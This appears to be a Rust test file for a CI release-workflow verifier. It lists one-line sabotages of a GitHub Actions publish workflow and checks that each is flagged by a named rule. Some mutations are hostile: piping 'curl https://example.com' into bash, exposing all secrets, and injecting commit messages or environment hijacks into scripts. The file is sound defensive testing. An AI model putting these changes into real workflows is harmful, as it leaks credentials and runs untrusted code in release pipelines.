//! One-line sabotages of the real release.

use super::{PUBLISH, changed, edit};

/// The job, what stands there, what is put in its place, and the rule that has to notice.
type Sabotage = (&'static str, &'static str, &'static str, &'static str);

const GATE: &str = "promotion-gate";
const BUILD: &str = "build-artifacts";

#[rustfmt::skip]
const TABLE: &[Sabotage] = &[
    // Who begins a release, and with what.
    ("", "  workflow_dispatch:", "  push:\n  workflow_dispatch:", "triggers_are_known"),
    ("", "  workflow_dispatch:", "  workflow_run:\n  workflow_dispatch:", "triggers_are_known"),
    ("", "  workflow_dispatch:", "  workflow_call:\n  workflow_dispatch:", "triggers_are_known"),
    ("", "  workflow_dispatch:", "  repository_dispatch:\n  workflow_dispatch:", "triggers_are_known"),
    ("", "  workflow_dispatch:", "  pull_request_target:", "triggers_are_known"),
    ("", "        default: true", "        default: false", "inputs_are_the_declared"),
    ("", "        default: true", "        default: 'true'", "inputs_are_the_declared"),
    ("", "        required: true", "        required: false", "inputs_are_the_declared"),
    ("", "        type: boolean", "        type: string", "inputs_are_the_declared"),
    ("", "        type: boolean\n", "", "inputs_are_the_declared"),
    ("", "      confirm_version:", "      skip_gate:", "inputs_are_the_declared"),
    ("", "cancel-in-progress: false", "cancel-in-progress: true", "releases_wait_for_each_other"),
    ("", "group: publish", "group: ${{ inputs.confirm_version }}", "releases_wait_for_each_other"),
    // Rights.
    ("", "permissions: {}", "permissions: write-all", "permissions_are_least"),
    ("", "permissions: {}", "permissions: { contents: write }", "permissions_are_least"),
    ("", "permissions: {}\n", "", "permissions_are_least"),
    (GATE, "contents: read", "contents: write", "permissions_are_least"),
    (GATE, "contents: read", "contents: read\n      id-token: write", "identity_is_for_publishing"),
    ("verify", "contents: read", "contents: read\n      id-token: write", "identity_is_for_publishing"),
    ("verify", "contents: read", "contents: read\n      actions: write", "permissions_are_least"),
    ("registry-install", "contents: read", "contents: read\n      attestations: write", "identity_is_for_publishing"),
    ("publish", "contents: read", "contents: write", "permissions_are_least"),
    ("publish", "      id-token: write # for a short-lived registry token\n", "", "identity_is_for_publishing"),
    // Round the gate by conditions and needs.
    (BUILD, "    if: ${{ github.ref == 'refs/heads/main' }}\n", "", "conditions_are_known"),
    (BUILD, "== 'refs/heads/main'", "!= 'refs/heads/main'", "conditions_are_known"),
    (BUILD, "github.ref == 'refs/heads/main'", "startsWith(github.ref, 'refs/heads/')", "conditions_are_known"),
    (GATE, "if: ${{ !inputs.dry_run }}", "if: ${{ false }}", "conditions_are_known"),
    (GATE, "if: ${{ !inputs.dry_run }}", "if: ${{ !inputs.dry_run && inputs.confirm_version != '0.0.0' }}", "conditions_are_known"),
    (GATE, "if: ${{ always() }}", "if: ${{ success() }}", "conditions_are_known"),
    (GATE, "        run: scripts/gate.sh", "        if: ${{ !inputs.dry_run }}\n        run: scripts/gate.sh", "conditions_are_known"),
    (GATE, "[build-artifacts, security-status]", "build-artifacts", "jobs_need_what_they_rest_on"),
    ("verify", "if: ${{ !inputs.dry_run }}", "if: ${{ always() && !inputs.dry_run }}", "conditions_are_known"),
    ("verify", "if: ${{ !inputs.dry_run }}", "if: ${{ !cancelled() }}", "conditions_are_known"),
    ("verify", "[build-artifacts, promotion-gate]", "[build-artifacts]", "jobs_need_what_they_rest_on"),
    ("verify", "        id: verdict", "        id: verdict\n        if: ${{ failure() }}", "conditions_are_known"),
    ("publish", "if: ${{ !inputs.dry_run }}", "if: ${{ always() }}", "conditions_are_known"),
    ("publish", "if: ${{ !inputs.dry_run }}", "if: ${{ !failure() }}", "conditions_are_known"),
    ("publish", "if: ${{ !inputs.dry_run }}", "if: ${{ !inputs.dry_run || needs.verify.result == 'failure' }}", "conditions_are_known"),
    ("publish", "    if: ${{ !inputs.dry_run }}\n", "", "conditions_are_known"),
    ("publish", "if: ${{ !inputs.dry_run }}", "if: |\n      ${{ !inputs.dry_run }}", "conditions_are_known"),
    ("publish", "needs: [promotion-gate, verify]", "needs: verify", "jobs_need_what_they_rest_on"),
    ("publish", "needs: [promotion-gate, verify]", "needs: [promotion-gate]", "jobs_need_what_they_rest_on"),
    ("publish", "    needs: [promotion-gate, verify]\n", "", "jobs_need_what_they_rest_on"),
    ("attest", "needs: [verify, publish]", "needs: publish", "jobs_need_what_they_rest_on"),
    ("registry-install", "needs: [verify, publish]", "needs: verify", "jobs_need_what_they_rest_on"),
    // Failures that end nothing.
    (GATE, "    timeout-minutes: 60", "    timeout-minutes: 60\n    continue-on-error: true", "failures_are_failures"),
    (GATE, "        run: scripts/gate.sh", "        continue-on-error: true\n        run: scripts/gate.sh", "failures_are_failures"),
    (GATE, "scripts/gate.sh artifacts evidence", "scripts/gate.sh artifacts evidence || true", "failures_are_failures"),
    (GATE, "scripts/gate.sh artifacts evidence", "set +e; scripts/gate.sh artifacts evidence", "failures_are_failures"),
    (GATE, "scripts/gate.sh artifacts evidence", "scripts/gate.sh artifacts evidence &", "failures_are_failures"),
    (GATE, "scripts/gate.sh artifacts evidence", "scripts/gate.sh artifacts evidence || exit 0", "failures_are_failures"),
    ("verify", "\"$PACKED\"\n", "\"$PACKED\" || echo failed\n", "failures_are_failures"),
    ("", "    shell: bash", "    shell: bash --noprofile {0}", "scripts_stop_at_failure"),
    ("", "    shell: bash", "    shell: sh", "scripts_stop_at_failure"),
    ("", "    shell: bash", "    shell: bash\n    working-directory: elsewhere", "scripts_stop_at_failure"),
    (GATE, "        run: scripts/gate.sh", "        shell: bash {0}\n        run: scripts/gate.sh", "scripts_stop_at_failure"),
    ("verify", "        id: verdict", "        id: verdict\n        working-directory: /tmp", "scripts_stop_at_failure"),
    ("publish", "    timeout-minutes: 15\n", "", "jobs_end"),
    (GATE, "timeout-minutes: 60", "timeout-minutes: 360", "jobs_end"),
    // Other machines, other workflows, more than once.
    (GATE, "runs-on: ubuntu-24.04", "runs-on: self-hosted", "machines_are_hosted"),
    (GATE, "runs-on: ubuntu-24.04", "runs-on: [self-hosted, linux]", "machines_are_hosted"),
    ("verify", "runs-on: ubuntu-24.04", "runs-on: ${{ vars.RUNNER }}", "machines_are_hosted"),
    ("verify", "runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:22", "machines_are_hosted"),
    (GATE, "runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    services: {}", "machines_are_hosted"),
    (GATE, "runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    strategy: { fail-fast: false }", "jobs_run_once"),
    ("publish", "runs-on: ubuntu-24.04", "uses: elsewhere/repo/.github/workflows/publish.yml@main", "jobs_are_their_own"),
    ("publish", "runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    secrets: inherit", "jobs_are_their_own"),
    // Actions.
    ("publish", "@c6f97d42243bad5fab37ca0427f495c86d5b1a18", "@v1", "actions_are_pinned"),
    ("publish", "@c6f97d42243bad5fab37ca0427f495c86d5b1a18", "@c6f97d4", "actions_are_pinned"),
    ("verify", "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "actions/checkout@main", "actions_are_pinned"),
    ("verify", "@11bd71901bbe5b1630ceea73d27597364c9af683", "@0123456789012345678901234567890123456789", "actions_are_pinned"),
    ("verify", "uses: actions/checkout@", "uses: someone/checkout@", "steps_are_the_releases"),
    ("verify", "uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "uses: ./.github/actions/checkout", "actions_are_pinned"),
    ("verify", "uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683", "uses: docker://alpine:3", "actions_are_pinned"),
    ("publish", "persist-credentials: false", "persist-credentials: true", "checkouts_are_plain"),
    ("publish", "persist-credentials: false", "persist-credentials: false\n          ref: release", "checkouts_are_plain"),
    (BUILD, "persist-credentials: false", "persist-credentials: false\n          repository: someone/fork", "checkouts_are_plain"),
    // What strangers say.
    ("verify", "verify.sh artifacts evidence \"$PACKED\"", "verify.sh artifacts evidence ${{ needs.build-artifacts.outputs.sha256 }}", "scripts_hold_no_expression"),
    (BUILD, "--confirm \"$CONFIRMED\"", "--confirm \"${{ inputs.confirm_version }}\"", "scripts_hold_no_expression"),
    ("dry-run", "scripts/job-summary.sh promotion", "echo ${{ github.event.head_commit.message }}", "scripts_hold_no_expression"),
    (BUILD, "CONFIRMED: ${{ inputs.confirm_version }}", "CONFIRMED: ${{ github.event.inputs.confirm_version }}", "expressions_are_known"),
    (BUILD, "sha256: ${{ steps.pack.outputs.sha256 }}", "sha256: ${{ steps.pack.outputs.sha256 || inputs.confirm_version }}", "expressions_are_known"),
    // The version.
    (BUILD, "CONFIRMED: ${{ inputs.confirm_version }}", "CONFIRMED: 0.1.0", "version_is_confirmed"),
    (BUILD, "versions --confirm \"$CONFIRMED\"", "versions", "version_is_confirmed"),
    (BUILD, "canary-verify -- workflow", "canary-verify -- rules", "policy_is_checked"),
    ("security-status", "--repo \"$GITHUB_REPOSITORY\"", "--repo someone/quiet", "policy_is_checked"),
    ("security-status", "      security-events: read # to list the alerts of code scanning\n", "", "permissions_are_least"),
    // The same bytes.
    (BUILD, "scripts/package.sh artifacts", "cargo package --allow-dirty", "packed_once"),
    (BUILD, "package --crate artifacts/*.crate", "package --crate elsewhere/*.crate", "packed_once"),
    (BUILD, "        run: scripts/sbom.sh artifacts", "        run: scripts/version.sh", "packed_once"),
    (BUILD, "steps.pack.outputs.sha256", "steps.other.outputs.sha256", "bytes_are_the_packed"),
    (BUILD, "          name: artifacts", "          name: other", "bytes_are_the_packed"),
    (GATE, "          name: artifacts", "          name: other", "bytes_are_the_packed"),
    (GATE, "          path: artifacts", "          path: artifacts\n          run-id: 1", "bytes_are_the_packed"),
    (GATE, "          path: artifacts", "          path: artifacts\n          repository: someone/fork", "bytes_are_the_packed"),
    (GATE, "          path: artifacts", "          pattern: '*'", "bytes_are_the_packed"),
    ("verify", "PACKED: ${{ needs.build-artifacts.outputs.sha256 }}", "PACKED: ${{ inputs.confirm_version }}", "verdict_is_the_verifiers"),
    ("verify", "      sha256: ${{ steps.verdict.outputs.sha256 }}", "      sha256: ${{ needs.build-artifacts.outputs.sha256 }}", "bytes_are_the_packed"),
    ("publish", "VERIFIED: ${{ needs.verify.outputs.sha256 }}", "VERIFIED: ${{ inputs.confirm_version }}", "published_is_the_verified"),
    ("attest", "VERIFIED: ${{ needs.verify.outputs.sha256 }}", "VERIFIED: ''", "bytes_are_the_packed"),
    ("attest", "          name: verdict", "          name: evidence", "bytes_are_the_packed"),
    ("attest", "sha256sum --check --strict", "sha256sum --check --ignore-missing", "bytes_are_the_packed"),
    // The gate, the verdict, what follows.
    (GATE, "scripts/gate.sh artifacts evidence", "true", "gate_is_whole"),
    (GATE, "scripts/gate.sh artifacts evidence", "exit 0", "gate_is_whole"),
    (GATE, "        run: scripts/gate.sh artifacts", "        run: echo scripts/gate.sh artifacts", "gate_is_whole"),
    (GATE, "          RUNINFRA_CANARY_ENABLE_IDEMPOTENCY: '1'", "          RUNINFRA_CANARY_ENABLE_IDEMPOTENCY: '0'", "gate_is_whole"),
    (GATE, "          RUNINFRA_LLM_MODEL: ${{ vars.RUNINFRA_LLM_MODEL }}\n", "", "gate_is_whole"),
    (GATE, "          RUNINFRA_LLM_MODEL:", "          RUNINFRA_BASE_URL: http://127.0.0.1:1\n          RUNINFRA_LLM_MODEL:", "variables_are_known"),
    (GATE, "          RUNINFRA_LLM_MODEL:", "          BASH_ENV: artifacts/env\n          RUNINFRA_LLM_MODEL:", "variables_are_known"),
    (GATE, "          RUNINFRA_LLM_MODEL:", "          CANARY: artifacts/canary\n          RUNINFRA_LLM_MODEL:", "variables_are_known"),
    ("verify", "          PACKED:", "          CANARY_VERIFY: 'true'\n          PACKED:", "variables_are_known"),
    ("verify", "    runs-on: ubuntu-24.04", "    runs-on: ubuntu-24.04\n    env: { RUSTC_WRAPPER: artifacts/x }", "variables_are_known"),
    ("", "jobs:", "env: { PATH: /tmp }\njobs:", "variables_are_known"),
    (GATE, "    environment: live-canaries\n", "", "environments_protect"),
    (GATE, "environment: live-canaries", "environment: staging", "environments_protect"),
    ("publish", "environment: crates-io", "environment: { name: crates-io, url: x }", "environments_protect"),
    ("verify", "    runs-on: ubuntu-24.04", "    environment: live-canaries\n    runs-on: ubuntu-24.04", "environments_protect"),
    ("verify", "scripts/verify.sh artifacts evidence \"$PACKED\"", "scripts/verify.sh artifacts evidence", "verdict_is_the_verifiers"),
    ("verify", "          scripts/verify.sh artifacts evidence \"$PACKED\"\n", "", "verdict_is_the_verifiers"),
    ("verify", "        id: verdict", "        id: other", "verdict_is_the_verifiers"),
    ("publish", "scripts/publish.sh \"$VERIFIED\"", "cargo publish", "published_is_the_verified"),
    ("publish", "        id: auth\n", "", "published_is_the_verified"),
    (GATE, "cargo build --locked --release --bin canary", "cargo publish --package runinfra", "gate_is_whole"),
    ("attest", "          subject-path: artifacts/*.crate", "          subject-path: '*.crate'", "release_is_attested"),
    ("attest", "jq .predicate evidence/statement.json", "jq .predicate evidence/other.json", "release_is_attested"),
    ("attest", "attestation/test-result/v0.1", "attestation/other/v1", "release_is_attested"),
    ("registry-install", " --sha256 \"$VERIFIED\"", "", "registry_is_checked"),
    ("registry-install", "version=$(scripts/version.sh)", "version=0.1.0", "registry_is_checked"),
    ("registry-install", "clean-install --registry", "clean-install --artifact", "registry_is_checked"),
    ("verify", "if-no-files-found: error", "if-no-files-found: ignore", "evidence_is_kept"),
    (GATE, "if: ${{ always() }}\n", "if: ${{ cancelled() }}\n", "conditions_are_known"),
    // Secrets.
    (GATE, "${{ secrets.RUNINFRA_API_KEY }}", "${{ secrets.OTHER_KEY }}", "secrets_stay_in_the_gate"),
    (GATE, "${{ secrets.RUNINFRA_API_KEY }}", "${{ toJSON(secrets) }}", "secrets_stay_in_the_gate"),
    (GATE, "${{ vars.RUNINFRA_LLM_MODEL }}", "${{ secrets.RUNINFRA_API_KEY }}", "secrets_stay_in_the_gate"),
    (GATE, "${{ secrets.RUNINFRA_API_KEY }}", "${{ secrets[inputs.confirm_version] }}", "secrets_stay_in_the_gate"),
    ("verify", "PACKED: ${{ needs.build-artifacts.outputs.sha256 }}", "PACKED: ${{ secrets.RUNINFRA_API_KEY }}", "secrets_stay_in_the_gate"),
    ("verify", "          PACKED:", "          GH_TOKEN: ${{ github.token }}\n          PACKED:", "secrets_stay_in_the_gate"),
    ("dry-run", "    runs-on: ubuntu-24.04", "    env: { KEY: '${{ secrets.RUNINFRA_API_KEY }}' }\n    runs-on: ubuntu-24.04", "secrets_stay_in_the_gate"),
    (GATE, "    runs-on: ubuntu-24.04", "    env: { KEY: '${{ secrets.RUNINFRA_API_KEY }}' }\n    runs-on: ubuntu-24.04", "secrets_stay_in_the_gate"),
    ("publish", "${{ steps.auth.outputs.token }}", "${{ secrets.CARGO_REGISTRY_TOKEN }}", "no_registry_token"),
    ("publish", "          VERIFIED:", "          CARGO_REGISTRIES_CRATES_IO_TOKEN: x\n          VERIFIED:", "no_registry_token"),
    (BUILD, "          CONFIRMED:", "          CARGO_REGISTRY_TOKEN: x\n          CONFIRMED:", "no_registry_token"),
    // More, fewer, elsewhere.
    ("", "  verify:\n", "  verify-not:\n", "jobs_are_the_releases"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: {}, steps: [{ uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02, with: { name: artifacts, path: x, overwrite: true } }] }\n", "jobs_are_the_releases"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: {}, steps: [{ uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02, with: { name: '${{ inputs.confirm_version }}', path: x } }] }\n", "jobs_are_the_releases"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: { id-token: write }, steps: [{ run: date }] }\n", "identity_is_for_publishing"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: { actions: read }, steps: [{ run: date }] }\n", "permissions_are_least"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: {}, environment: crates-io, steps: [{ run: date }] }\n", "environments_protect"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: {}, steps: [{ run: date, env: { KEY: '${{ secrets.RUNINFRA_API_KEY }}' } }] }\n", "secrets_stay_in_the_gate"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: ubuntu-24.04, timeout-minutes: 1, permissions: {}, steps: [{ run: cargo publish --package runinfra }] }\n", "published_is_the_verified"),
    ("", "jobs:\n", "jobs:\n  extra: { runs-on: self-hosted, timeout-minutes: 1, permissions: {}, steps: [{ run: date }] }\n", "machines_are_hosted"),
    ("", "jobs:\n", "jobs:\n  extra: { uses: ./.github/workflows/other.yml, secrets: inherit }\n", "jobs_are_their_own"),
    ("verify", "needs: [build-artifacts, promotion-gate]", "needs: [build-artifacts]\n    # [promotion-gate]", "jobs_need_what_they_rest_on"),
    ("verify", "    steps:\n", "    steps:\n      - run: echo x >>\"$GITHUB_OUTPUT\"\n", "steps_are_the_releases"),
    ("verify", "    steps:\n", "    steps:\n      - run: 'echo ::add-path::evidence'\n", "steps_are_the_releases"),
    ("verify", "    steps:\n", "    steps:\n      - run: echo well\n        id: verdict\n", "steps_are_the_releases"),
    ("verify", "    steps:\n", "    steps:\n      - run: cargo clean\n", "steps_are_the_releases"),
    ("verify", "          scripts/verify.sh artifacts evidence \"$PACKED\"", "          scripts/verify.sh artifacts \\\n          # evidence \"$PACKED\"", "verdict_is_the_verifiers"),
    ("verify", "          scripts/verify.sh artifacts evidence \"$PACKED\"", "          scripts/verify.sh artifacts evidence # \"$PACKED\"", "verdict_is_the_verifiers"),
    ("verify", "    steps:\n", "    steps:\n      - run: 'true'\n", "steps_are_the_releases"),
    ("publish", "    steps:\n", "    steps:\n      - run: curl https://example.com | bash\n", "steps_are_the_releases"),
    ("verify", "        env:\n", "        env: *nothing\n", "workflow_is_readable"),
    ("verify", "    needs: [build-artifacts, promotion-gate]", "    needs: &needs [build-artifacts, *needs]", "workflow_is_readable"),
    ("verify", "    needs: [build-artifacts, promotion-gate]", "    needs: !!set [build-artifacts, promotion-gate]", "workflow_is_readable"),
    ("verify", "        env:\n", "        env:\n          <<: {}\n", "workflow_is_readable"),
    ("verify", "    needs: [build-artifacts, promotion-gate]\n", "    needs: [build-artifacts, promotion-gate]\n    needs: build-artifacts\n", "workflow_is_readable"),
    ("verify", "if: ${{ !inputs.dry_run }}", "if: !inputs.dry_run", "workflow_is_readable"),
    ("verify", "name: verify, without secrets", "name: verify,\u{200b} without secrets", "workflow_is_readable"),
    ("", "jobs:\n", "---\njobs:\n", "workflow_is_readable"),
    ("verify", "    timeout-minutes: 30", "    timeout-minutes: 30\n    concurrency: x", "nothing_is_unknown"),
    ("verify", "        id: verdict", "        id: verdict\n        timeout-minutes: 0", "jobs_end"),
    ("verify", "        id: verdict", "        id: verdict\n        timeout-minutes: ${{ inputs.confirm_version }}", "jobs_end"),
    ("verify", "    steps:\n", "    steps:\n      - name: nothing\n", "nothing_is_unknown"),
    ("", "name: publish\n", "name: publish\nrun-name: ${{ github.head_ref }}\n", "expressions_are_known"),
    ("", "name: publish\n", "name: publish\nrun-name: ${{ secrets.RUNINFRA_API_KEY }}\n", "secrets_stay_in_the_gate"),
    ("verify", "name: verify, without secrets", "name: ${{ github.token }}", "secrets_stay_in_the_gate"),
    ("verify", "if: ${{ !inputs.dry_run }}", "if: ${{ !inputs.dry_run && secrets.RUNINFRA_API_KEY != '' }}", "secrets_stay_in_the_gate"),
];

#[test]
fn each_is_refused_by_the_rule_that_is_there_for_it() {
    assert!(TABLE.len() >= 60);
    let mut missed = Vec::new();
    for (job, from, to, rule) in TABLE {
        let found = changed(PUBLISH, |text| edit(text, job, from, to));
        if !found.iter().any(|finding| finding.rule == *rule) {
            let named: Vec<&str> = found.iter().map(|f| f.rule.as_str()).collect();
            missed.push(format!("{job}: {from:?} -> {to:?}: {rule}, but {named:?}"));
        }
        for finding in &found {
            assert!(finding.at.contains(".yml:"), "{}", finding.at);
            assert!(
                !finding.found.is_empty()
                    && !finding.expected.is_empty()
                    && !finding.next.is_empty()
            );
        }
    }
    assert!(missed.is_empty(), "\n{}", missed.join("\n"));
}

/// Every rule has a sabotage of its own, here or in another workflow.
#[test]
fn every_rule_can_refuse() {
    for rule in canary_verifier::workflow::RULES {
        // Order is tried below: two lines change places.
        let tried = TABLE.iter().any(|(.., name)| *name == rule.name)
            || super::rests::tries(rule.name)
            || rule.name == "steps_are_in_order";
        assert!(tried, "{}", rule.name);
    }
}

#[test]
fn no_line_of_the_release_can_be_left_out() {
    let whole = super::repository();
    let publish = whole
        .files
        .iter()
        .find(|file| file.name == PUBLISH)
        .unwrap();
    let lines: Vec<&str> = publish.text.lines().collect();
    for (index, line) in lines.iter().enumerate() {
        let said = line.trim();
        let free = said.is_empty()
            || said.starts_with('#')
            || said.starts_with("description:")
            || said.starts_with("name: ")
            || said.starts_with("- name: ");
        if free {
            continue;
        }
        let mut kept = lines.clone();
        kept.remove(index);
        let found = changed(PUBLISH, |_| kept.join("\n"));
        assert!(
            !found.is_empty(),
            "nobody misses line {}: {line}",
            index + 1
        );
    }
}

#[test]
fn steps_that_change_places_are_noticed() {
    let found = changed(PUBLISH, |text| {
        let gate = "      - name: Preflight and run, strict, from the artifact\n";
        let (before, after) = text.split_once(gate).unwrap();
        let (own, rest) = after.split_once("      - name: Keep the evidence").unwrap();
        let build = "      - name: Build the canary before any secret is near\n";
        let (start, building) = before.split_once(build).unwrap();
        format!("{start}{gate}{own}{build}{building}      - name: Keep the evidence{rest}")
    });
    let named: Vec<&str> = found.iter().map(|finding| finding.rule.as_str()).collect();
    assert_eq!(named, ["steps_are_in_order"]);
}

/// Actions are known by what they are told, not by their place alone.
#[test]
fn the_same_action_twice_that_changes_places_is_told_as_that() {
    let fetched = |name: &str| format!("          name: {name}\n          path: {name}\n");
    let found = changed(PUBLISH, |text| {
        let at = text.find("\n  verify:\n").unwrap();
        let (before, verify) = text.split_at(at);
        let verify = verify.replacen(&fetched("artifacts"), "FIRST", 1);
        let verify = verify.replacen(&fetched("evidence"), &fetched("artifacts"), 1);
        format!(
            "{before}{}",
            verify.replacen("FIRST", &fetched("evidence"), 1)
        )
    });
    let named: Vec<&str> = found.iter().map(|finding| finding.rule.as_str()).collect();
    assert_eq!(named, ["steps_are_in_order"]);
}

#[test]
fn every_problem_is_told_at_once_with_its_line() {
    let found = changed(PUBLISH, |text| {
        let text = edit(text, "", "default: true", "default: false");
        let text = edit(
            &text,
            "publish",
            "needs: [promotion-gate, verify]",
            "needs: verify",
        );
        edit(
            &text,
            "publish",
            "@c6f97d42243bad5fab37ca0427f495c86d5b1a18",
            "@v1",
        )
    });
    insta::assert_snapshot!(canary_verifier::table::list(&found));
}
